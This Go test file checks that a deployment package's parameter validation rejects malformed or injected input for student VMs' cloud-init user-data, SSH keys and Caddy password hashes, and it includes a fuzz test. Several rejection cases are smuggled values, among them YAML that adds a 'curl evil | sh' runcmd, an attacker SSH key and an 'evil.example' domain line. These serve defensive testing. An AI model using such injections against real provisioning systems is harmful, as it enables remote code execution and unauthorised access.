package deploy

import (
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/rsa"
	"encoding/pem"
	"errors"
	"strings"
	"sync"
	"testing"

	"golang.org/x/crypto/bcrypt"
	"golang.org/x/crypto/ssh"
)

func TestValidateAccepts(t *testing.T) {
	base := mustParams(t)
	tests := []struct {
		name string
		edit func(p *Params)
	}{
		{"as generated", func(p *Params) {}},
		{"one-letter name", func(p *Params) { p.Name, p.FQDN = "x", "x.cicf.cloud" }},
		{"31-character name", func(p *Params) {
			p.Name = "a" + strings.Repeat("b-1", 10)
			p.FQDN = p.Name + ".example.edu"
		}},
		{"key without comment", func(p *Params) {
			p.StudentKey = strings.Fields(p.StudentKey)[0] + " " + strings.Fields(p.StudentKey)[1]
		}},
		{"key with trailing CRLF", func(p *Params) { p.StudentKey += "\r\n" }},
		{"key comment with # and colon", func(p *Params) { p.StudentKey += " #1: work" }},
		{"2048-bit RSA key", func(p *Params) { p.StudentKey = rsaKey(t, 2048) }},
		{"explicit caddy user", func(p *Params) { p.CaddyUser = "jupyter.user-1" }},
		{"$2b$ hash", func(p *Params) { p.CaddyPasswordHash = "$2b$" + p.CaddyPasswordHash[4:] }},
		{"host key with CRLF line ends", func(p *Params) {
			p.HostKeyPrivate = strings.ReplaceAll(p.HostKeyPrivate, "\n", "\r\n")
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := base
			tt.edit(&p)
			if err := p.Validate(); err != nil {
				t.Errorf("Validate() = %v, want nil", err)
			}
		})
	}
}

func TestValidateRejects(t *testing.T) {
	base := mustParams(t)
	other := mustKey(t, "someone-else")
	encrypted := func() string {
		_, priv, err := ed25519.GenerateKey(rand.Reader)
		if err != nil {
			t.Fatal(err)
		}
		block, err := ssh.MarshalPrivateKeyWithPassphrase(priv, "", []byte("secret"))
		if err != nil {
			t.Fatal(err)
		}
		return string(pem.EncodeToMemory(block))
	}()
	tests := []struct {
		name string
		edit func(p *Params)
	}{
		{"empty name", func(p *Params) { p.Name = "" }},
		{"name with uppercase", func(p *Params) { p.Name, p.FQDN = "Emma", "Emma.cicf.cloud" }},
		{"name with underscore", func(p *Params) { p.Name, p.FQDN = "em_ma", "em_ma.cicf.cloud" }},
		{"name with newline", func(p *Params) { p.Name = "emma\nssh_pwauth: true" }},
		{"fqdn of another student", func(p *Params) { p.FQDN = "noe.cicf.cloud" }},
		{"fqdn without domain", func(p *Params) { p.FQDN = "emma" }},
		{"fqdn on a bare TLD", func(p *Params) { p.FQDN = "emma.cloud" }},
		{"fqdn with uppercase", func(p *Params) { p.FQDN = "emma.CICF.cloud" }},
		{"fqdn with trailing dot", func(p *Params) { p.FQDN = "emma.cicf.cloud." }},
		{"fqdn with quote", func(p *Params) { p.FQDN = "emma.cicf.cloud'" }},
		{"fqdn with newline and YAML", func(p *Params) { p.FQDN = "emma.cicf.cloud\nssh_pwauth: true" }},
		{"fqdn with Caddyfile brace", func(p *Params) { p.FQDN = "emma.cicf.cloud{" }},
		{"numeric TLD", func(p *Params) { p.FQDN = "emma.10.0.0.1" }},
		{"empty student key", func(p *Params) { p.StudentKey = "" }},
		{"student key with newline and extra YAML", func(p *Params) {
			p.StudentKey += "\nssh_pwauth: true\nruncmd: [[sh, -c, 'curl evil | sh']]"
		}},
		{"student key followed by a second key", func(p *Params) { p.StudentKey += "\n" + other.public }},
		{"student key with double quote", func(p *Params) { p.StudentKey += ` "` }},
		{"student key with single quote", func(p *Params) { p.StudentKey += " emma's key" }},
		{"student key with options", func(p *Params) { p.StudentKey = "no-pty " + p.StudentKey }},
		{"student key with command option", func(p *Params) { p.StudentKey = `command="/bin/true" ` + p.StudentKey }},
		{"student key not base64", func(p *Params) { p.StudentKey = "ssh-ed25519 not-a-key emma" }},
		{"student key is a private key", func(p *Params) { p.StudentKey = other.private }},
		{"student key comment with control char", func(p *Params) { p.StudentKey += " a\tb\x1b[2J" }},
		{"missing bot key", func(p *Params) { p.BotKey = "" }},
		{"bot key with newline", func(p *Params) { p.BotKey += "\n- ssh-ed25519 AAAA attacker" }},
		{"missing host private key", func(p *Params) { p.HostKeyPrivate = "" }},
		{"host private key of another pair", func(p *Params) { p.HostKeyPrivate = other.private }},
		{"host public key of another pair", func(p *Params) { p.HostKeyPublic = other.public }},
		{"missing host public key", func(p *Params) { p.HostKeyPublic = "" }},
		{"host private key with YAML after it", func(p *Params) { p.HostKeyPrivate += "ssh_pwauth: true\n" }},
		{"host private key with a second block", func(p *Params) { p.HostKeyPrivate += other.private }},
		{"host private key with PEM headers", func(p *Params) {
			p.HostKeyPrivate = strings.Replace(p.HostKeyPrivate, "-----\n", "-----\nProc-Type: 4,ENCRYPTED\n\n", 1)
		}},
		{"encrypted host private key", func(p *Params) { p.HostKeyPrivate = encrypted }},
		{"host private key not PEM", func(p *Params) { p.HostKeyPrivate = "ssh_pwauth: true" }},
		{"caddy user with space", func(p *Params) { p.CaddyUser = "cicf user" }},
		{"caddy user with brace", func(p *Params) { p.CaddyUser = "{$HOME}" }},
		{"caddy user with quote", func(p *Params) { p.CaddyUser = "cicf'" }},
		{"missing hash", func(p *Params) { p.CaddyPasswordHash = "" }},
		{"plaintext password as hash", func(p *Params) { p.CaddyPasswordHash = "correct horse battery" }},
		{"non-bcrypt hash", func(p *Params) {
			p.CaddyPasswordHash = "$6$saltsalt$" + strings.Repeat("x", 86) // sha512-crypt
		}},
		{"base64 bcrypt hash (old caddy hash-password)", func(p *Params) {
			p.CaddyPasswordHash = "JDJhJDE0JFE0dUd0Vmp0bG1KUThxMUhiUjY1aU8zNnJ4TTJIL0tEZU5nV2U0NHJKYWwzaW5aQk9WNjFT"
		}},
		{"$2y$ hash", func(p *Params) { p.CaddyPasswordHash = "$2y$" + p.CaddyPasswordHash[4:] }},
		{"truncated hash", func(p *Params) { p.CaddyPasswordHash = p.CaddyPasswordHash[:59] }},
		{"hash with quote and newline", func(p *Params) { p.CaddyPasswordHash += "'\nDOMAIN='evil.example" }},
		{"hash with impossible cost", func(p *Params) { p.CaddyPasswordHash = "$2a$99$" + p.CaddyPasswordHash[7:] }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := base
			tt.edit(&p)
			err := p.Validate()
			if !errors.Is(err, ErrInvalid) {
				t.Fatalf("Validate() = %v, want an error wrapping ErrInvalid", err)
			}
			if _, rerr := Render(p); !errors.Is(rerr, ErrInvalid) {
				t.Errorf("Render() error = %v, want an error wrapping ErrInvalid", rerr)
			}
			// Errors end up in logs and Slack; they must not carry secrets.
			if strings.Contains(err.Error(), "-----BEGIN") || (len(p.CaddyPasswordHash) > 20 && strings.Contains(err.Error(), p.CaddyPasswordHash)) {
				t.Errorf("Validate() error %q repeats a secret", err)
			}
		})
	}
}

func TestHashPasswordLength(t *testing.T) {
	tests := []struct {
		pw      string
		wantErr bool
	}{
		{"", true},
		{"elevenchars", true},
		{"twelve chars", false},
		{"ünïcödé-ok!!", false}, // 12 characters, more bytes
		{strings.Repeat("x", 72), false},
		{strings.Repeat("x", 73), true},
		{strings.Repeat("é", 37), true}, // 37 characters, 74 bytes
	}
	for _, tt := range tests {
		hash, err := hashPassword(tt.pw, bcrypt.MinCost)
		if tt.wantErr {
			if !errors.Is(err, ErrInvalid) {
				t.Errorf("HashPassword(%q) error = %v, want one wrapping ErrInvalid", tt.pw, err)
			}
			continue
		}
		if err != nil {
			t.Errorf("HashPassword(%q) = %v, want nil error", tt.pw, err)
			continue
		}
		if err := bcrypt.CompareHashAndPassword([]byte(hash), []byte(tt.pw)); err != nil {
			t.Errorf("HashPassword(%q) does not verify: %v", tt.pw, err)
		}
	}
}

const testPassword = "correct horse battery staple"

// testPasswordHash is HashPassword(testPassword), computed once: at cost 12
// it takes seconds under -race, and two tests need it.
var testPasswordHash = sync.OnceValues(func() (string, error) { return HashPassword(testPassword) })

func TestHashPassword(t *testing.T) {
	t.Parallel()
	pw := testPassword
	hash, err := testPasswordHash()
	if err != nil {
		t.Fatalf("HashPassword(%q) = %v", pw, err)
	}
	if cost, err := bcrypt.Cost([]byte(hash)); err != nil || cost < 12 {
		t.Errorf("HashPassword(%q): cost %d (%v), want >= 12", pw, cost, err)
	}
	if err := bcrypt.CompareHashAndPassword([]byte(hash), []byte(pw)); err != nil {
		t.Errorf("HashPassword(%q) does not verify: %v", pw, err)
	}
	p := mustParams(t)
	p.CaddyPasswordHash = hash
	if err := p.Validate(); err != nil {
		t.Errorf("Validate() of HashPassword(%q) = %v, want nil", pw, err)
	}
}

// FuzzValidateStudentKey checks that whatever key text Validate accepts
// renders as exactly one YAML line: nothing can add keys to user-data.
func FuzzValidateStudentKey(f *testing.F) {
	p := mustParams(f)
	want := bytes.Count(mustRender(f, p).UserData, []byte("\n"))
	for _, seed := range []string{
		p.StudentKey,
		p.StudentKey + " #1: x",
		p.StudentKey + "\nssh_pwauth: true",
		p.StudentKey + "\r\nx: y",
		`command="x" ` + p.StudentKey,
		p.StudentKey + ` "`,
		"ssh-ed25519 AAAA",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, key string) {
		q := p
		q.StudentKey = key
		pl, err := Render(q)
		if err != nil {
			return
		}
		if got := bytes.Count(pl.UserData, []byte("\n")); got != want {
			t.Errorf("student key %q: user-data has %d lines, want %d", key, got, want)
		}
		if bytes.ContainsAny(pl.UserData, "\r\x00") {
			t.Errorf("student key %q: user-data contains CR or NUL", key)
		}
	})
}

func rsaKey(tb testing.TB, bits int) string {
	tb.Helper()
	k, err := rsa.GenerateKey(rand.Reader, bits)
	if err != nil {
		tb.Fatal(err)
	}
	pub, err := ssh.NewPublicKey(&k.PublicKey)
	if err != nil {
		tb.Fatal(err)
	}
	return strings.TrimSpace(string(ssh.MarshalAuthorizedKey(pub))) + " rsa-test"
}
